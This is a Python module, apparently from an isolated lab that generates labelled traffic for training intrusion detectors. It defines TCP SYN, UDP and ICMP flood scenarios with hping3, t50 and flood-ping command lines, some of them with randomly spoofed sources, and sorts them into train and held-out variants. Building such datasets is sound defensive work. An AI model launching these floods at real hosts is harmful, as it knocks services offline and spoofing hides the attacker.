"""Floods of the victim: TCP SYN, UDP and ICMP (hping3, t50, ping -f), from the attacker's
address or spoofed.

Spoofed-source variants (hping3 --rand-source) send from random addresses all over the
IPv4 space. The victim cannot answer them off-lab: no namespace has a default route, so
its SYN-ACKs and ICMP errors have nowhere to go and are never sent; the bridge has no
uplink. Their flows are labelled by destination (`match="victim"`). Each run is bounded
by a packet count (-c) and an interval, and by timeout(1).
"""
from __future__ import annotations

import random

from trafficlab.attacks.base import Scenario, Target, Variant, run

FLOOD_TCP_PORTS = (80, 80, 443, 22, 8080, 5201)
FLOOD_UDP_PORTS = (53, 123, 161, 80, 443, 1900, 5353, 9999)


def _interval(rng: random.Random) -> int:
    return rng.choice([100, 200, 300, 500, 800, 1200, 2000])


# Settings of the spoofed SYN flood kept for training, apart from the held-out variant's:
# other ports, and at most 3,300 packets/s (the held-out one reaches 10,000).
SPOOFED_TRAIN_TCP_PORTS = (25, 443, 3306, 8443)
SPOOFED_TRAIN_INTERVALS = (300, 500, 1000, 2000)


def hping3_flood(mode: str, spoofed: bool = False, ports: tuple[int, ...] | None = None,
                 intervals: tuple[int, ...] | None = None):
    """hping3 -S / --udp / --icmp at a seeded interval, count and payload size."""
    def plan(rng: random.Random, n: int, t: Target):
        count = n if mode != "icmp" or spoofed else min(50_000, max(2000, n * rng.choice([4, 8, 16])))
        interval = rng.choice(intervals) if intervals else _interval(rng)
        argv = ["hping3", "-q", "-n", "-i", f"u{interval}", "-c", str(count)]
        params: dict = {"count": count, "interval_us": interval}
        if mode == "syn":
            port = rng.choice(ports or FLOOD_TCP_PORTS)
            argv += ["-S", "-p", str(port), "-w", str(rng.choice([64, 512, 1024, 8192, 29200, 65535]))]
            params["dst_port"] = port
        elif mode == "udp":
            port = rng.choice(FLOOD_UDP_PORTS)
            argv += ["--udp", "-p", str(port)]
            params["dst_port"] = port
        else:
            icmptype = rng.choice([8, 8, 8, 13])
            argv += ["--icmp", "--icmptype", str(icmptype)]
            params["icmp_type"] = icmptype
        dlen = rng.choice([0, 0, 20, 64, 120, 512] if mode != "syn" else [0, 0, 0, 20, 64, 120])
        if dlen:
            argv += ["-d", str(dlen)]
        params["data_length"] = dlen
        if spoofed:
            argv.append("--rand-source")
        elif mode != "icmp":
            base = rng.randint(1024, max(1025, 65000 - min(count, 60000)))
            argv += ["-s", str(base)]
            params["base_src_port"] = base
        expected = count if mode != "icmp" or spoofed else max(1, round(count * interval / 30e6))
        return run(argv + [t.victim], count * interval / 1e6 * 2 + 15, count, expected, params,
                   match="victim" if spoofed else "attacker")
    return plan


def t50_flood(protocol: str):
    """t50: a burst of exactly --threshold packets as fast as it can, random source ports,
    from the attacker's own address (-s; t50's default source would be random)."""
    def plan(rng: random.Random, n: int, t: Target):
        port = rng.choice(FLOOD_TCP_PORTS if protocol == "TCP" else FLOOD_UDP_PORTS)
        argv = ["t50", t.victim, "--protocol", protocol, "--dport", str(port), "-s", t.attacker,
                "--threshold", str(n)]
        if protocol == "TCP":
            argv += ["-S", "-W", str(rng.choice([1024, 8192, 65535]))]
        return run(argv, 15 + n / 1000, n, n, {"count": n, "dst_port": port, "protocol": protocol})
    return plan


def ping_flood(rng: random.Random, n: int, t: Target):
    count = min(50_000, max(2000, n * rng.choice([4, 8, 16])))
    size = rng.choice([56, 56, 120, 512, 1400])
    deadline = int(count / 2000) + 10
    argv = ["ping", "-f", "-q", "-n", "-c", str(count), "-s", str(size), "-w", str(deadline), t.victim]
    return run(argv, deadline + 5, count, max(1, deadline // 30), {"count": count, "size": size})


SYN_FLOOD = Scenario("syn_flood", "TCP SYN flood of one victim port", (
    Variant("hping3_syn", "train", "hping3 -S -i uN -c N", "from the attacker's address",
            hping3_flood("syn"), ("hping3",)),
    Variant("hping3_syn_spoofed_train", "train", "hping3 -S --rand-source (ports 25/443/3306/8443)",
            "random spoofed sources at up to 3,300/s, to other ports than the held-out variant's",
            hping3_flood("syn", spoofed=True, ports=SPOOFED_TRAIN_TCP_PORTS, intervals=SPOOFED_TRAIN_INTERVALS),
            ("hping3",)),
    Variant("hping3_syn_spoofed", "heldout", "hping3 -S --rand-source", "random spoofed sources, "
            "one flow per packet; the victim cannot answer", hping3_flood("syn", spoofed=True), ("hping3",)),
    Variant("t50_syn", "heldout", "t50 --protocol TCP -S --threshold N", "one fast burst, random "
            "source ports", t50_flood("TCP"), ("t50",)),
))

UDP_FLOOD = Scenario("udp_flood", "UDP flood of the victim (closed ports answer ICMP, rate-limited)", (
    Variant("hping3_udp", "train", "hping3 --udp -i uN -c N", "from the attacker's address",
            hping3_flood("udp"), ("hping3",)),
    Variant("hping3_udp_spoofed", "heldout", "hping3 --udp --rand-source", "random spoofed sources",
            hping3_flood("udp", spoofed=True), ("hping3",)),
    Variant("t50_udp", "heldout", "t50 --protocol UDP --threshold N", "one fast burst, random "
            "source ports", t50_flood("UDP"), ("t50",)),
))

ICMP_FLOOD = Scenario("icmp_flood", "ICMP echo/timestamp flood of the victim (few, huge flows)", (
    Variant("hping3_icmp", "train", "hping3 --icmp -i uN -c N", "echo or timestamp requests",
            hping3_flood("icmp"), ("hping3",)),
    Variant("ping_flood", "heldout", "ping -f -c N", "iputils flood ping", ping_flood, ("ping",)),
    Variant("hping3_icmp_spoofed", "heldout", "hping3 --icmp --rand-source", "random spoofed sources",
            hping3_flood("icmp", spoofed=True), ("hping3",)),
))
